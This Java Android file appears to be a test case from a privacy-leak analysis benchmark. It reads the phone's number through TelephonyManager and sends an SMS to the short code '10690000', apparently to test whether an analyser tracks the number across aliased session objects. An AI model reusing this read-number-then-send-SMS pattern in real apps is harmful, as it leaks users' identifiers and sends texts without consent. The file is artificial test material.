package cn.privlens.suite.session_registry_other;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    static final class Session {
        String user = "guest";
        Session parent;
    }

    static final class Registry {
        private final Map<String, Session> all = new HashMap<>();

        Session open(String name) {
            Session found = all.get(name);
            if (found == null) {
                found = new Session();
                all.put(name, found);
            }
            return found;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Registry registry = new Registry();
        Session login = registry.open("login");
        Session guest = new Session();
        guest.parent = login;
        registry.open("login").user = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        SmsManager.getDefault().sendTextMessage("10690000", null, guest.user, null, null);
    }
}
